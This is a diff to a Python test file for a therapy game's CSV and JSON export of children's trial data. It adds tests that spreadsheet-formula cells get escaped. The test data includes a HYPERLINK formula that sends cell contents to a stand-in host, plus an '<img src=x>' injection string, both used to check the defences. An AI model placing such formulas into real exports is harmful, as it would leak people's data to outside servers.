@@ -69,7 +69,7 @@ def test_one_row_per_trial_with_the_child_by_id_only(
     assert "script" not in text.lower() and "alert" not in text
     assert stat.S_IMODE(out.stat().st_mode) == 0o600
     tired = [row for row in rows if row["therapist_note"]]
-    assert [row["therapist_note"] for row in tired] == ["[child] was tired <img src=x>"]
+    assert [row["therapist_note"] for row in tired] == [f"{profile_id} was tired <img src=x>"]
     first = rows[0]
     assert first["success"] in ("true", "false")
     assert first["quality_head_turned"] == "0.1"  # from make_trial's quality for index 0
@@ -153,9 +153,36 @@ def test_csv_starts_with_a_byte_order_mark_and_json_does_not(tmp_path: Path) -> 
         reader = csv.DictReader(handle)
         rows = list(reader)
     assert tuple(reader.fieldnames or ()) == export_columns()  # no BOM glued to the header
-    assert rows[0]["therapist_note"] == "[child]今天很开心，笑了三次"
+    assert rows[0]["therapist_note"] == f"{child.profile_id}今天很开心，笑了三次"
     assert "今天很开心".encode() in raw  # UTF-8 after the mark
 
     raw_json = json_out.read_bytes()
     assert raw_json.startswith(b"{")
     assert json.loads(raw_json.decode("utf-8"))["rows"][0]["therapist_note"].endswith("笑了三次")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_text_cells_a_spreadsheet_would_run_are_prefixed_to_stay_text(
+    start: str, tmp_path: Path
+) -> None:
+    store = memory_store()
+    child = store.create_profile("Ava")
+    session = store.start_session(child.profile_id, level_set_id="first-faces")
+    formula = f"{start}HYPERLINK(\"http://x.example/?\"&A1,\"see\")"
+    store.add_trial(session.session_id, make_trial(0, override_note=formula),
+                    therapist_note=formula)
+    out = tmp_path / "trials.csv"
+    write_export(store, out, fmt="csv")
+    with open(out, encoding="utf-8-sig", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["therapist_note"] == "'" + formula
+    assert row["override_note"] == "'" + formula
+    assert row["peak_score"] == "0.8" and not row["started_ms"].startswith("'")
+
+
+def test_negative_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
+    from game.reports.export import _csv_cell
+
+    assert _csv_cell(-3) == "-3" and _csv_cell(-0.5) == "-0.5"
+    assert _csv_cell("smiled a lot") == "smiled a lot"
+    assert _csv_cell("-1 point") == "'-1 point"
